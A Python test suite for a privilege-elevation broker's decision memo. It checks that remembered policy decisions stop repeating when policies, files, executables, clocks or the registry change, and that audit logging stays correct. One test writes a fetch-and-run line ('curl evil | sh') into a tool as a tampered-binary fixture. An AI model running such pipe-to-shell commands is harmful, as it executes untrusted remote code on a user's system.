"""Remembered-policy decisions repeated from memory (``decision_memo.py``, issue 19).

Every test runs a broker whose registry snapshot stays the same object (as the
headless broker's and the tray's live registries do), so repeats come from the
memo; it must answer exactly what a fresh decision would, and stop the moment
anything the decision rested on changes: the policies (in memory, in the file,
by expiry on either clock), the executable, the registry, pause and shutdown.
"""

from __future__ import annotations

import dataclasses
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from core_helpers import (
    HOST,
    FakePrompter,
    Setup,
    decide,
    live_broker,
    run,
    sudo_request,
)
from policy_helpers import FakeClock

from registry_core.elevation import core
from registry_core.elevation import messages as m
from registry_core.elevation.audit import AuditLog
from registry_core.elevation.audit_file import MAX_LINE
from registry_core.elevation.core import Broker, BrokerConfig
from registry_core.elevation.decision_memo import MAX_ID_FRAME, DecisionMemo, Repeatable, memo_key
from registry_core.elevation.denials import DeniedBy
from registry_core.elevation.facts import RequestFacts
from registry_core.elevation.frame_memo import FRAME_REST, FrameMemo
from registry_core.elevation.framing import request_decoder
from registry_core.elevation.identity import Requester
from registry_core.elevation.policies import LookupStamp, PolicyStore, file_sha256
from registry_core.elevation.prompter import Approval, Remember
from registry_core.elevation.protocol import encode, with_id
from registry_core.file_lock import exclusive, lock_path_for
from registry_core.registry import Registry


@pytest.fixture
def gathered(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The tools whose facts the broker gathered (a repeat gathers none)."""
    calls: list[str] = []
    real = core.gather_facts

    def counting(registry: Registry, req: m.ElevateRequest, **kw: Any) -> RequestFacts:
        calls.append(req.tool)
        return real(registry, req, **kw)

    monkeypatch.setattr(core, "gather_facts", counting)
    return calls


def without_time(record: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in record.items() if k not in ("time", "request_id")}


def test_a_repeat_answers_what_a_fresh_decision_answers_and_writes_its_own_audit_line(
    setup: Setup, tmp_path: Path, gathered: list[str]
) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    inside = dataclasses.replace(
        setup.requester, pid=4242, exe="/usr/bin/agent", sandboxed=True, sandbox_reasons=("x",)
    )
    req = setup.request(args={"path": "/home/a b", "n": [1, 2.5, None]}, client="agent/1")

    async def go() -> list[m.Reply]:
        return [
            broker.elevate_now(req, setup.requester),
            broker.elevate_now(dataclasses.replace(req, id="two"), setup.requester),
            broker.elevate_now(dataclasses.replace(req, id=3), inside),
            broker.elevate_now(dataclasses.replace(req, id=4), inside),
        ]

    replies = run(go)
    assert gathered == ["greet", "greet"]  # once per memo key (the sandboxed flag is in it)
    assert [r.id for r in replies] == [1, "two", 3, 4]
    first = replies[0]
    assert isinstance(first, m.DecisionReply)
    assert first.by is m.DecidedBy.POLICY and first.decision is m.Decision.ALLOW
    for reply in replies:
        assert dataclasses.replace(reply, id=1) == first
    records = setup.audit()
    assert [r["request_id"] for r in records] == ["r1", "r2", "r3", "r4"]
    assert [r["requester"]["pid"] for r in records] == [os.getpid(), os.getpid(), 4242, 4242]
    assert [r["requester"].get("sandboxed") for r in records] == [None, None, True, True]
    assert without_time(records[1]) == without_time(records[0])
    assert without_time(records[3]) == without_time(records[2])
    assert records[0]["args"] == {"path": "/home/a b", "n": [1, 2.5, None]}
    assert records[0]["client"] == "agent/1"

    # The same decisions made afresh (a new snapshot per request: no repeats) write the
    # same lines, byte for byte but for the time and the broker's request id.
    fresh_path = tmp_path / "fresh.jsonl"
    fresh = setup.broker(FakePrompter())
    fresh.audit = AuditLog(fresh_path)

    async def again() -> None:
        for rid, who in ((1, setup.requester), ("two", setup.requester), (3, inside)):
            fresh.elevate_now(dataclasses.replace(req, id=rid), who)

    run(again)
    fresh_records = [json.loads(line) for line in fresh_path.read_text().splitlines()]
    assert [without_time(r) for r in fresh_records] == [without_time(r) for r in records[:3]]


def test_revoking_in_the_same_store_ends_the_repeats(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    first, second = decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    assert first.by is second.by is m.DecidedBy.POLICY
    setup.policies.revoke("greet")
    [third] = decide(broker, setup, setup.request(rid=3))
    assert third.by is m.DecidedBy.USER and third.decision is m.Decision.DENY
    assert [a.tool for a in prompter.asked] == ["greet"]


def test_a_revoke_by_another_process_through_the_file_ends_the_repeats(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    assert [r.by for r in decide(broker, setup, setup.request(rid=1), setup.request(rid=2))] == [
        m.DecidedBy.POLICY,
        m.DecidedBy.POLICY,
    ]
    PolicyStore(setup.policy_path).revoke("greet")  # what `ollie-tools policy revoke` does
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    assert len(prompter.asked) == 1


def test_an_allow_turned_into_a_deny_in_the_file_is_applied_at_once(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    doc = yaml.safe_load(setup.policy_path.read_text())
    [entry] = doc["policies"]
    entry.update(decision="deny", remember="deny_always")
    entry.pop("executable", None)
    entry.pop("sha256", None)
    setup.policy_path.write_text(yaml.safe_dump(doc))
    os.utime(setup.policy_path, ns=(1, 1))  # a stamp no earlier read could have seen
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert (reply.decision, reply.remember) == (m.Decision.DENY, "deny_always")


def test_a_session_policy_revoked_ends_the_repeats(setup: Setup, gathered: list[str]) -> None:
    setup.remember("greet", Remember.SESSION)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    decide(broker, setup, *(setup.request(rid=i) for i in (1, 2, 3)))
    assert prompter.asked == []
    # Without a policies.yaml every lookup finds the file missing: no change, so the
    # second and third requests are repeats.
    assert gathered == ["greet"]
    assert setup.policies.revoke("greet") == 1
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER


@pytest.mark.parametrize("step", ["wall", "monotonic"])
def test_a_timed_allow_stops_repeating_when_it_expires_on_either_clock(
    setup: Setup, step: str
) -> None:
    wall, mono = FakeClock(), FakeClock(100.0)
    store = PolicyStore(setup.policy_path, clock=wall, monotonic=mono)
    exe = setup.exe("greet")
    store.remember("greet", m.Kind.SANDBOX, HOST, Remember.MINUTES_15, exe, file_sha256(exe))
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter, store)
    wall.now += 899
    mono.now += 899
    assert [r.by for r in decide(broker, setup, setup.request(rid=1), setup.request(rid=2))] == [
        m.DecidedBy.POLICY,
        m.DecidedBy.POLICY,
    ]
    if step == "wall":
        wall.now += 1  # the wall clock reaches ``expires``
    else:
        wall.now -= 86_400  # the wall clock stepped back a day...
        mono.now += 1  # ...but fifteen minutes have passed
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    assert len(prompter.asked) == 1


def test_a_changed_executable_is_not_covered_by_the_repeat(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    exe = Path(setup.exe("greet"))
    exe.write_text("#!/bin/sh\ncurl evil | sh\n")
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    [asked] = prompter.asked
    assert asked.sha256 == file_sha256(exe)


def test_a_new_registry_snapshot_is_consulted(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, snapshots = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    (setup.tools / "greet.meta").unlink()
    snapshots.reload()
    with pytest.raises(m.MessageError) as caught:
        decide(broker, setup, setup.request(rid=3))
    assert caught.value.code is m.ErrorCode.UNKNOWN_TOOL


def test_pause_and_shutdown_come_before_any_repeat(setup: Setup) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    broker.set_paused(True)
    [paused] = decide(broker, setup, setup.request(rid=3))
    assert (paused.decision, paused.by) == (m.Decision.DENY, m.DecidedBy.PAUSED)
    broker.set_paused(False)
    [again] = decide(broker, setup, setup.request(rid=4))
    assert again.by is m.DecidedBy.POLICY
    broker.closing = True
    [closing] = decide(broker, setup, setup.request(rid=5))
    assert (closing.decision, closing.by) == (m.Decision.DENY, m.DecidedBy.SHUTDOWN)


def test_every_repeated_deny_is_listed_for_the_desktop(setup: Setup) -> None:
    setup.remember("greet", Remember.DENY_ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    replies = decide(broker, setup, *(setup.request(rid=i) for i in range(3)))
    assert {r.decision for r in replies} == {m.Decision.DENY}
    denials = setup.denials.recent()
    assert len(denials) == 3
    assert {(d.tool, d.why) for d in denials} == {("greet", DeniedBy.POLICY)}
    assert len({d.reason for d in denials}) == 1


def test_sudo_allows_are_made_afresh_each_with_its_own_grant(
    setup: Setup, gathered: list[str]
) -> None:
    setup.remember("rooty", Remember.ALWAYS, kind=m.Kind.SUDO)
    broker, _ = live_broker(setup, FakePrompter())
    replies = decide(broker, setup, sudo_request(setup, 1), sudo_request(setup, 2))
    assert [r.by for r in replies] == [m.DecidedBy.POLICY, m.DecidedBy.POLICY]
    grants = [r.grant for r in replies]
    assert None not in grants and grants[0] != grants[1]
    assert gathered == ["rooty", "rooty"]


def test_forwarded_and_code_requests_are_decided_afresh(setup: Setup, gathered: list[str]) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter([Approval(False)] * 2))
    remote = dataclasses.replace(
        setup.requester, remote=True, host="build", tools_dir="/srv/ollie/tools"
    )

    async def go() -> None:
        for rid in (1, 2):
            req = setup.request(rid=rid, argv=("/srv/ollie/tools/greet",))
            broker.elevate_now(req, remote)
        for rid in (3, 4):
            broker.elevate_now(setup.code_request(rid=rid), setup.requester)

    run(go)
    assert gathered == ["greet", "greet", setup.code_request().tool, setup.code_request().tool]


def test_an_unwritable_audit_log_does_not_stop_a_repeat(
    setup: Setup, caplog: pytest.LogCaptureFixture
) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    decide(broker, setup, setup.request(rid=1))
    setup.audit_path.unlink()
    setup.audit_path.mkdir()  # a directory where the log should be
    [reply] = decide(broker, setup, setup.request(rid=2))
    assert reply.by is m.DecidedBy.POLICY
    assert "could not write the audit log" in caplog.text


# --- the pieces ----------------------------------------------------------------------


def entry(snapshot: object, tool: str = "greet") -> Repeatable:
    return Repeatable(
        snapshot=snapshot,
        executable="/x",
        sha256="a" * 64,
        stamp=LookupStamp(0, 1.0, 1.0),
        tool=tool,
        host=HOST,
        decision=m.Decision.ALLOW,
        reason="r",
        remember="always",
        audit=(",", "}\n"),
    )


def test_the_memo_holds_one_snapshot_and_a_bounded_number_of_entries() -> None:
    memo = DecisionMemo(max_entries=3)
    old, new = object(), object()
    for i in range(3):
        memo.put(("k", i), entry(old))
    assert len(memo) == 3 and memo.get(("k", 0), old) is not None
    memo.put(("k", 3), entry(old))  # full: starts over rather than growing
    assert len(memo) == 1
    assert memo.get(("k", 3), new) is None  # a newer snapshot empties it
    assert len(memo) == 0
    memo.put(("k", 4), entry(new))
    memo.put(("k", 5), entry(old))  # an entry of another snapshot replaces them all
    assert memo.get(("k", 4), old) is None and memo.get(("k", 5), old) is not None


def requester(**kw: Any) -> Requester:
    fields: dict[str, Any] = {"pid": 1, "uid": 0, "gid": 0, **kw}
    return Requester(**fields)


@pytest.mark.parametrize(
    ("change", "kept"),
    [
        ({}, True),
        ({"kind": m.Kind.SUDO}, False),
        ({"code": "id"}, False),
    ],
)
def test_only_plain_sandbox_escapes_have_a_key(change: dict[str, Any], kept: bool) -> None:
    fields: dict[str, Any] = {"kind": m.Kind.SANDBOX, **change}
    req = m.ElevateRequest(id=1, tool="t", argv=("/t",), args={}, cwd="/", **fields)
    assert (memo_key(req, requester()) is not None) is kept
    assert memo_key(req, requester(remote=True)) is None


def keys(**changes: Any) -> Iterator[Any]:
    base = m.ElevateRequest(
        id=1, tool="t", kind=m.Kind.SANDBOX, argv=("/t",), args={"a": 1}, cwd="/"
    )
    yield memo_key(base, requester())
    yield memo_key(dataclasses.replace(base, **changes), requester())


@pytest.mark.parametrize(
    "changes",
    [
        {"tool": "u"},
        {"argv": ("/t", "x")},
        {"cwd": "/tmp"},
        {"host": "elsewhere"},
        {"client": "agent"},
        {"timeout": 5.0},
        {"args": {"a": 1.0}},
        {"args": {"a": True}},
        {"args": {"a": 1, "b": None}},
    ],
)
def test_every_field_of_the_request_but_its_id_is_in_the_key(changes: dict[str, Any]) -> None:
    one, other = keys(**changes)
    assert one != other


def test_the_key_separates_sandboxed_requesters_and_ignores_the_id() -> None:
    req = m.ElevateRequest(id=1, tool="t", kind=m.Kind.SANDBOX, argv=("/t",), args={}, cwd="/")
    same = dataclasses.replace(req, id="other")
    assert memo_key(req, requester()) == memo_key(same, requester(pid=2, exe="/bin/x"))
    assert memo_key(req, requester()) != memo_key(req, requester(sandboxed=True))


def test_a_lookup_stamp_holds_until_the_store_changes(setup: Setup) -> None:
    store: Callable[[], PolicyStore] = lambda: setup.policies  # noqa: E731
    setup.remember("greet", Remember.ALWAYS)
    stamp = store().lookup_stamp("greet", m.Kind.SANDBOX, HOST)
    assert store().lookup_stamp("greet", "sandbox", HOST) == stamp
    assert store().holds(stamp)
    setup.remember("other", Remember.ALWAYS)  # any change of the policies counts
    assert not store().holds(stamp)
    again = store().lookup_stamp("greet", m.Kind.SANDBOX, HOST)
    assert store().holds(again)
    PolicyStore(setup.policy_path).revoke("other")
    assert not store().holds(again)


def test_a_session_policy_replaced_by_another_ends_the_repeats(setup: Setup) -> None:
    setup.remember("greet", Remember.SESSION)
    prompter = FakePrompter([Approval(False)])
    broker, _ = live_broker(setup, prompter)
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    [current] = setup.policies.list()
    # The person's newer session answer, bound to another build of the tool.
    setup.policies.set(dataclasses.replace(current, sha256="b" * 64))
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert reply.by is m.DecidedBy.USER
    assert len(prompter.asked) == 1


def test_a_deny_kept_for_the_session_when_the_file_is_locked_applies_at_once(
    setup: Setup,
) -> None:
    store = PolicyStore(setup.policy_path, lock_timeout=0.05)
    exe = setup.exe("greet")
    store.remember("greet", m.Kind.SANDBOX, HOST, Remember.ALWAYS, exe, file_sha256(exe))
    broker, _ = live_broker(setup, FakePrompter(), store)
    decide(broker, setup, setup.request(rid=1), setup.request(rid=2))
    with exclusive(lock_path_for(setup.policy_path)):  # another writer holds the file
        store.remember("greet", m.Kind.SANDBOX, HOST, Remember.DENY_ALWAYS, exe, None)
    assert any("kept for this session only" in p for p in store.problems)
    [reply] = decide(broker, setup, setup.request(rid=3))
    assert (reply.decision, reply.remember) == (m.Decision.DENY, "deny_always")


def test_an_entry_whose_facts_changed_is_dropped() -> None:
    memo = DecisionMemo()
    snapshot = object()
    memo.put(("k",), entry(snapshot))
    memo.put(("j",), entry(snapshot))
    memo.drop(("k",))
    memo.drop(("absent",))  # nothing to drop: no error
    assert memo.get(("k",), snapshot) is None
    assert memo.get(("j",), snapshot) is not None
    assert len(memo) == 1


def test_a_request_read_by_the_frame_memo_is_keyed_by_its_frames_content() -> None:
    memo = FrameMemo()
    decoder = request_decoder(memo=memo)

    def read(rid: str, cwd: str = "/") -> m.ElevateRequest:
        frame = {"v": 1, "id": rid, "op": "elevate", "tool": "t", "kind": "sandbox"}
        frame.update(argv=["/t"], args={"a": [1, 2.5]}, cwd=cwd)
        [req] = decoder.feed(json.dumps(frame, separators=(",", ":")).encode() + b"\n")
        assert isinstance(req, m.ElevateRequest)
        return req

    first, again, elsewhere = read("a"), read("b"), read("c", cwd="/tmp")
    # Keyed by the frame's own bytes after the id (no re-encoding per request).
    assert memo_key(first, requester()) == (first.__dict__[FRAME_REST], False)
    assert memo_key(first, requester()) == memo_key(again, requester())
    assert memo_key(first, requester()) != memo_key(elsewhere, requester())
    assert memo_key(first, requester()) != memo_key(first, requester(sandboxed=True))
    assert memo_key(first, requester(remote=True)) is None
    # The frame's bytes ride beside the fields, never in comparisons.
    assert again == dataclasses.replace(first, id="b")


@pytest.mark.parametrize("rid", [7, -(2**53 - 1), "é", 'a"b\\c', "\u2028", "😀" * 256])
@pytest.mark.parametrize("choice", [Remember.ALWAYS, Remember.DENY_ALWAYS])
def test_a_repeated_frame_is_the_encoded_reply_and_is_recorded(
    setup: Setup, rid: m.RequestId, choice: Remember
) -> None:
    setup.remember("greet", choice)
    broker, _ = live_broker(setup, FakePrompter())

    async def go() -> tuple[object, bytes | None, object]:
        first = broker.elevate_now(setup.request(rid=1), setup.requester)
        frame = broker.repeat_frame(setup.request(rid=rid), setup.requester)
        again = broker.elevate_now(setup.request(rid=rid), setup.requester)
        return first, frame, again

    first, frame, again = run(go)
    assert isinstance(first, m.DecisionReply) and first.by is m.DecidedBy.POLICY
    assert isinstance(again, m.DecisionReply)
    assert frame == encode(dataclasses.replace(first, id=rid)) == encode(again)
    records = setup.audit()
    assert [r["request_id"] for r in records] == ["r1", "r2", "r3"]
    assert without_time(records[1]) == without_time(records[0]) == without_time(records[2])
    # A repeated deny is listed for the desktop like a fresh one.
    denied = 3 if choice is Remember.DENY_ALWAYS else 0
    assert [d.tool for d in setup.denials.recent(10)] == ["greet"] * denied


def test_no_frame_is_repeated_while_paused_shutting_down_or_before_a_decision(
    setup: Setup,
) -> None:
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())

    async def go() -> list[bytes | None]:
        seen = [broker.repeat_frame(setup.request(rid=1), setup.requester)]  # nothing learnt
        broker.elevate_now(setup.request(rid=2), setup.requester)
        broker.set_paused(True)
        seen.append(broker.repeat_frame(setup.request(rid=3), setup.requester))
        broker.set_paused(False)
        seen.append(broker.repeat_frame(setup.request(rid=4), setup.requester))
        broker.begin_shutdown()
        seen.append(broker.repeat_frame(setup.request(rid=5), setup.requester))
        return seen

    seen = run(go)
    assert [frame is not None for frame in seen] == [False, False, True, False]
    assert [r["request_id"] for r in setup.audit()] == ["r1", "r2"]


# --- where a repeat gives way to the general path ------------------------------------


def test_a_reply_frame_is_reused_only_while_the_longest_id_keeps_it_within_a_frame() -> None:
    longest_id = "😀" * m.MAX_ID_LENGTH  # every code point a surrogate pair: 12 bytes escaped
    longest_head = len(with_id(longest_id, b""))
    assert longest_head <= MAX_ID_FRAME
    fits = b"x" * (m.MAX_FRAME - MAX_ID_FRAME)
    assert dataclasses.replace(entry(object()), reply_rest=fits).reply_frame(longest_id) == (
        with_id(longest_id, fits)
    )
    assert len(with_id(longest_id, fits)) <= m.MAX_FRAME
    too_long = fits + b"x"  # could exceed the limit under some valid id: encoded instead
    assert dataclasses.replace(entry(object()), reply_rest=too_long).reply_frame(7) is None
    # A reply whose frame could not be made when it was learnt is encoded every time.
    assert entry(object()).reply_rest is None
    assert entry(object()).reply_frame(7) is None


def test_a_repeat_whose_audit_line_is_too_long_to_assemble_is_recorded_by_the_general_path(
    setup: Setup, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A requester's command line longer than an audit line: the repeat's quick line
    cannot be made, so the request is decided and recorded as a fresh one is (once),
    and inside a batch the memo's checks still read ``policies.yaml`` once."""
    setup.remember("greet", Remember.ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())
    long = dataclasses.replace(setup.requester, cmdline=("agent", "x" * MAX_LINE))
    refreshes: list[bool] = []
    real_holds = setup.policies.holds

    def holds(stamp: LookupStamp, *, refresh: bool = True) -> bool:
        refreshes.append(refresh)
        return real_holds(stamp, refresh=refresh)

    async def go() -> tuple[bytes | None, m.Reply]:
        broker.elevate_now(setup.request(rid=1), setup.requester)  # learnt
        monkeypatch.setattr(setup.policies, "holds", holds)
        with broker.batch():
            frame = broker.repeat_frame(setup.request(rid=2), long)
            return frame, broker.elevate_now(setup.request(rid=2), long)

    frame, reply = run(go)
    assert frame is None
    assert isinstance(reply, m.DecisionReply)
    assert (reply.id, reply.by, reply.decision) == (2, m.DecidedBy.POLICY, m.Decision.ALLOW)
    records = setup.audit()
    assert len(records) == 2  # one line for the request, however many repeats declined
    assert records[1]["request_id"] != records[0]["request_id"]
    assert records[1]["requester"]["cmdline"][0] == "agent"
    assert records[1]["reason"] == records[0]["reason"]
    # repeat_frame's check read the file; elevate_now's, in the same batch, did not.
    assert refreshes[:2] == [True, False]


def test_a_repeat_without_a_reusable_frame_gives_way_without_recording(
    setup: Setup, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A remembered decision whose reply frame could not be made when it was learnt:
    ``repeat_frame`` hands the request to ``elevate_now`` and records nothing itself,
    so the request has one audit line and one denial entry, not two."""
    from registry_core.elevation import decision_memo

    def refuse(reply: m.DecisionReply) -> bytes:
        raise m.MessageError(m.ErrorCode.INTERNAL, "no frame")

    monkeypatch.setattr(decision_memo, "frame_rest", refuse)
    setup.remember("greet", Remember.DENY_ALWAYS)
    broker, _ = live_broker(setup, FakePrompter())

    async def go() -> tuple[bytes | None, m.Reply]:
        broker.elevate_now(setup.request(rid=1), setup.requester)  # learnt, without a frame
        frame = broker.repeat_frame(setup.request(rid=2), setup.requester)
        return frame, broker.elevate_now(setup.request(rid=2), setup.requester)

    frame, reply = run(go)
    assert frame is None
    assert isinstance(reply, m.DecisionReply)
    assert (reply.id, reply.by, reply.decision) == (2, m.DecidedBy.POLICY, m.Decision.DENY)
    assert [r["request_id"] for r in setup.audit()] == ["r1", "r2"]
    assert [d.tool for d in setup.denials.recent(10)] == ["greet", "greet"]


def test_a_per_tool_registry_is_asked_for_the_requested_tool_before_a_repeat(
    setup: Setup,
) -> None:
    """A broker that loads one tool's registry per request (``registry_for``, the
    non-resident broker) gives the memo that registry as its snapshot."""
    setup.remember("greet", Remember.ALWAYS)
    snapshot = setup.loader.load()
    asked: list[str] = []

    def registry_for(tool: str) -> Registry:
        asked.append(tool)
        return snapshot

    broker = Broker(
        registry=setup.loader.load,
        registry_for=registry_for,
        prompter=FakePrompter(),
        policies=setup.policies,
        audit=AuditLog(setup.audit_path),
        config=BrokerConfig(host=HOST),
        denials=setup.denials,
    )

    async def go() -> tuple[m.Reply, bytes | None]:
        first = broker.elevate_now(setup.request(rid=1), setup.requester)
        return first, broker.repeat_frame(setup.request(rid=2), setup.requester)

    first, frame = run(go)
    assert isinstance(first, m.DecisionReply)
    assert frame == encode(dataclasses.replace(first, id=2))
    assert asked == ["greet", "greet"]
